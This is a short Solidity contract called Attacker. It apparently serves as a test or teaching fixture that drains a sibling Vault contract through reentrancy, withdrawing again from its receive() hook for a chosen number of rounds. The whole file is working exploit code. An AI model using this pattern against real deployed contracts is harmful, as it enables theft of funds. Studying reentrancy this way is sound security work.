// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Vault} from "./Vault.sol";

/// A depositor whose payment hook withdraws again, as often as it was told to.
contract Attacker {
    Vault private immutable vault;
    uint256 private roundsLeft;

    /// All ether that was ever given to this contract to play with.
    uint256 public invested;

    constructor(Vault vault_) {
        vault = vault_;
    }

    function deposit() external payable {
        invested += msg.value;
        vault.deposit{value: msg.value}();
    }

    function withdraw(uint256 extraRounds) external {
        roundsLeft = extraRounds;
        vault.withdrawAll();
    }

    /// What the attacker owns: ether in hand and ether the vault says it owes.
    function wealth() external view returns (uint256) {
        return address(this).balance + vault.balanceOf(address(this));
    }

    receive() external payable {
        if (roundsLeft == 0) return;
        roundsLeft -= 1;
        vault.withdrawAll();
    }
}
